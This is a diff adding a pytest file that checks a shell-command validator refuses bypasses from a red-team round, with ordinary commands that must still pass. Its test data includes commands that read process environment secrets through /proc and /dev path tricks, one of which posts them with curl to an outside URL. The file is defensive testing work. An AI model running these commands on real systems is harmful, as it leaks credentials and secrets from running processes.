@@ -1,0 +1,119 @@
+"""The fifth red-team round's classes (against main at e598eba, 2026-12-04), each refused by its class.
+
+The hits: a path through ``/proc/thread-self/..`` read the worker's environment with the
+sandbox on (the rule normalised ``..`` lexically; the kernel follows the link first); ``*``
+in a URL pattern matched ``#``, ``@`` and ``:`` and so reached another host; bare
+``redis-cli`` ran ``FLUSHALL``; and, with the sandbox off, programs the rules let through
+wrote files. Validation never runs anything, so the programs are stand-ins on a temporary
+search path; a real ``run_command`` proves the effects that need one, in temporary
+directories. Beside each class are the ordinary uses that must still pass.
+"""
+
+from __future__ import annotations
+
+import os
+import shlex
+from pathlib import Path
+
+import pytest
+
+from celery_jobs_ext.errors import ShellCommandNotAllowed
+from celery_jobs_ext.shell import validate_command
+from celery_jobs_ext.shell.runner import run_command
+from tests.shell.helpers import make_programs
+
+SYSTEM_PATH = "/usr/local/bin:/usr/bin:/bin"
+PROGRAMS = [
+    "grep", "sort", "cat", "ls", "sed", "head", "curl", "wget", "redis-cli", "python3", "perl",
+    "ruby", "node", "tic", "pydoc3", "pydoc", "zipnote", "debconf-set-selections", "dpkg",
+    "update-alternatives", "kubectl", "man", "sqlite3", "mysqldump", "mysql", "git", "docker",
+    "tar", "psql", "pg_dump",
+]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def search_path(tmp_path_factory: pytest.TempPathFactory) -> str:
+    return str(make_programs(tmp_path_factory.mktemp("bin"), PROGRAMS))
+
+
+def is_refused(command: str, allowed: list[str], search_path: str) -> bool:
+    try:
+        validate_command(command, allowed, denied_arguments={}, search_path=search_path)
+    except ShellCommandNotAllowed:
+        return True
+    return False
+
+
+def bare(command: str) -> list[str]:
+    return [command.split()[0]]
+
+
+# --- 1. paths through /proc and /dev links followed before '..' ----------------------------------
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        # the round's hits: the kernel follows thread-self (and self, dev/fd) before the '..'
+        "grep -a -o NAME=value /proc/thread-self/../../../1/environ",
+        "sort -z /proc/thread-self/../../../1/environ",
+        "grep -a -c . /proc/thread-self/../../environ",
+        "grep -a -c . /proc/thread-self/../../../self/environ",
+        "cat /dev/fd/../environ",
+        # the class: any '..' with a proc or dev component, in any piece of an argument
+        "cat /proc/self/../self/environ",
+        "cat /proc/self/task/../environ",
+        "cat /dev/../proc/self/environ",
+        "cat /var/run/../proc/1/environ",
+        "cat proc/thread-self/../../environ",
+        "grep -f /proc/thread-self/../../environ x",
+        "sed -n p --file=/proc/thread-self/../../environ",
+        "curl -d @/dev/fd/../environ https://example.com/",
+        "head -c 100 /dev/stdin/../environ",
+    ],
+)
+def test_proc_and_dev_paths_with_dot_dot_are_refused(command: str, search_path: str) -> None:
+    assert is_refused(command, bare(command), search_path)
+
+
+def test_a_link_on_disk_into_proc_is_judged_where_it_leads(tmp_path: Path, search_path: str) -> None:
+    (tmp_path / "self").symlink_to("/proc/self")
+    (tmp_path / "fds").symlink_to("/dev/fd")
+    assert is_refused(f"cat {tmp_path}/self/environ", ["cat"], search_path)
+    assert is_refused(f"grep -a . {tmp_path}/fds/0", ["grep"], search_path)
+    assert is_refused(f"sort --files0-from={tmp_path}/self/cmdline", ["sort"], search_path)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat /proc/loadavg",
+        "cat /proc/cpuinfo",
+        "cat /etc/mtab",  # a link to /proc/self/mounts, the mount table
+        "ls /dev",
+        "ls -l /dev/null",
+        "cat /tmp/../etc/hostname",
+        "grep -r x ../src",
+        "ls ../..",
+        "cat ../dev-notes.txt",
+        "grep -c processed ../proc-logs/today.log",
+    ],
+)
+def test_ordinary_paths_with_dot_dot_or_links_still_pass(command: str, search_path: str) -> None:
+    assert not is_refused(command, bare(command), search_path)
+
+
+def validated_run(command: str, allowed: list[str], cwd: Path | None = None) -> dict[str, object] | None:
+    """Validate and, if allowed, really run the command (sandbox "auto"); None when refused."""
+    try:
+        validate_command(command, allowed, denied_arguments={}, search_path=SYSTEM_PATH)
+    except ShellCommandNotAllowed:
+        return None
+    return run_command(shlex.split(command), env={}, search_path=SYSTEM_PATH, cwd=cwd, timeout=60)
+
+
+def test_the_worker_environment_is_not_read_through_thread_self() -> None:
+    """The round's hit, for real: ``HOME=`` of the worker's environment does not come back."""
+    command = f"grep -a -o HOME= /proc/thread-self/../../../{os.getpid()}/environ"
+    result = validated_run(command, ["grep"])
+    assert result is None or "HOME=" not in str(result["stdout"])
